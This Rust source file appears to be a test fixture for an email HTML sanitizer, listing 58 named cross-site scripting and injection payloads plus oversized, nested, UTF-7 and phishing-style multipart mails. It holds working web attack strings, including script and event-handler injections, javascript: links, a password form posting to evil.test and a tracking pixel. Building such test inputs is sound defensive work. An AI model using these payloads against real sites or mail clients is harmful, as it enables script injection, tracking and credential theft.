//! Pages that want to run, load, submit or cover something.

use super::{Awkward, mail, multipart};

const PAGES: [(&str, &str); 58] = [
    ("script", "<script>alert(1)</script>Hello."),
    ("script in capitals", "<ScRiPt>alert(1)</sCrIpT>Hello."),
    ("script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>Hello."),
    ("script without an end", "Hello.<script>alert(1)"),
    ("script from elsewhere", "<script src=\"https://evil.test/x.js\"></script>Hello."),
    ("script as a module", "<script type=module>import('https://evil.test/x.js')</script>Hello."),
    ("an error handler", "<img src=x onerror=alert(1)>Hello."),
    ("an error handler in quotes", "<img src='x' onerror='alert(1)'>Hello."),
    ("an error handler behind a slash", "<img/src=x/onerror=alert(1)>Hello."),
    ("a load handler", "<body onload=alert(1)>Hello.</body>"),
    ("a handler of a vector", "<svg onload=alert(1)>Hello.</svg>"),
    ("a vector with script", "<svg><script>alert(1)</script><text>Hello.</text></svg>"),
    (
        "a vector that animates",
        "<svg><animate onbegin=alert(1) attributeName=x></animate></svg>Hello.",
    ),
    ("a vector with a use", "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>Hello."),
    (
        "mathematics",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>Hello.",
    ),
    (
        "a namespace confusion",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">Hello.",
    ),
    (
        "a no-script",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>Hello.",
    ),
    ("a template", "<template><script>alert(1)</script></template>Hello."),
    ("a comment that ends early", "<!--><script>alert(1)</script>-->Hello."),
    ("a conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->Hello."),
    ("character data", "<![CDATA[<script>alert(1)</script>]]>Hello."),
    ("a text area", "<textarea></textarea><img src=x onerror=alert(1)>Hello."),
    ("a title", "<title></title><img src=x onerror=alert(1)>Hello."),
    ("a link with script", "<a href=\"javascript:alert(1)\">Hello.</a>"),
    ("a link with script and a tab", "<a href=\"java\tscript:alert(1)\">Hello.</a>"),
    ("a link with script in entities", "<a href=\"&#106;avascript:alert(1)\">Hello.</a>"),
    ("a link with script behind spaces", "<a href=\" \u{1}javascript:alert(1)\">Hello.</a>"),
    ("a link to data", "<a href=\"data:text/html,<script>alert(1)</script>\">Hello.</a>"),
    ("a link of old", "<a href=\"vbscript:msgbox(1)\">Hello.</a>"),
    ("a link to our own doors", "<a href=\"/sign-out\">Hello.</a><a href=\"//evil.test\">x</a>"),
    ("a link that opens a window", "<a href=\"https://evil.test\" target=\"_top\">Hello.</a>"),
    (
        "a form",
        "<form action=\"https://evil.test\"><input name=password><button>Hello.</button></form>",
    ),
    ("a button to elsewhere", "<button formaction=\"javascript:alert(1)\">Hello.</button>"),
    ("a frame", "<iframe src=\"https://evil.test\"></iframe>Hello."),
    ("a frame with its own page", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>Hello."),
    ("an object", "<object data=\"https://evil.test/x.swf\"></object>Hello."),
    ("an embedded thing", "<embed src=\"https://evil.test/x.swf\">Hello."),
    ("an applet", "<applet code=x></applet>Hello."),
    ("a base", "<base href=\"https://evil.test/\"><a href=\"x\">Hello.</a>"),
    ("a refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.test\">Hello."),
    (
        "a policy of its own",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">Hello.",
    ),
    ("a style sheet", "<link rel=stylesheet href=\"https://evil.test/x.css\">Hello."),
    ("a prefetch", "<link rel=dns-prefetch href=\"//evil.test\">Hello."),
    ("a style that loads", "<style>@import 'https://evil.test/x.css';</style>Hello."),
    (
        "a style that covers the page",
        "<div style=\"position:fixed;inset:0;background:url(https://evil.test/p)\">Hello.</div>",
    ),
    ("a style of old", "<div style=\"width:expression(alert(1))\">Hello.</div>"),
    (
        "a picture that counts",
        "<img src=\"https://evil.test/pixel.gif?dana\" width=1 height=1>Hello.",
    ),
    (
        "pictures by size",
        "<img srcset=\"https://evil.test/a.png 2x\" src=\"https://evil.test/b.png\">Hello.",
    ),
    (
        "a picture of old",
        "<img lowsrc=\"https://evil.test/a.png\" dynsrc=\"https://evil.test/b\">Hello.",
    ),
    (
        "a background",
        "<table background=\"https://evil.test/p.gif\"><tr><td>Hello.</td></tr></table>",
    ),
    (
        "a video with a poster",
        "<video poster=\"https://evil.test/p.gif\" src=\"https://evil.test/v\"></video>Hello.",
    ),
    ("a sound", "<audio src=\"https://evil.test/a\" autoplay></audio>Hello."),
    (
        "names that shadow ours",
        "<div id=\"composer\" class=\"note\"><a id=\"timeline\" name=\"body\">Hello.</a></div>",
    ),
    (
        "attributes of our own script",
        "<a href=\"https://evil.test\" hx-get=\"/sign-out\" data-key=\"r\">Hello.</a>",
    ),
    ("an element of our own", "<live-events topics=\"ticket:1\">Hello.</live-events>"),
    ("a quotation without an end", "<p title=\"Hello. <script>alert(1)</script>"),
    ("a null in a tag", "<scr\0ipt>alert(1)</scr\0ipt>Hello."),
    ("words in entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x110000; &bogus; Hello."),
];

pub(super) fn mails() -> Vec<Awkward> {
    let page = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
    let mut all: Vec<Awkward> =
        PAGES.iter().map(|(name, html)| mail(format!("a page with {name}"), page, html)).collect();
    all.push(mail("a page of tags ten thousand deep", page, "<div>".repeat(10_000) + "Hello."));
    all.push(mail("a page of a megabyte", page, "<p>Hello.</p>".repeat(80_000)));
    all.push(mail(
        "a page of nothing",
        page,
        "<html><head><title>x</title></head><body></body></html>",
    ));
    all.push(mail("a page of hidden words", page, "<div style=\"display:none\">Hello.</div>"));
    all.push(mail("a page that is text", page, "Hello & < > there."));
    all.push(mail(
        "a page in another charset",
        "Content-Type: text/html; charset=utf-7\r\n",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-Hello.",
    ));
    all.push(multipart("a page that says other than the text", "alternative", &[
        "Content-Type: text/plain\r\n\r\nHello.",
        "Content-Type: text/html\r\n\r\n<p>Pay here: <a href=\"https://evil.test\">https://acme.test</a></p>",
    ]));
    all.push(multipart("a page with a vector for a picture", "related", &[
        "Content-Type: text/html\r\n\r\n<img src=\"cid:v\">Hello.",
        "Content-Type: image/svg+xml\r\nContent-ID: <v>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    ]));
    all
}
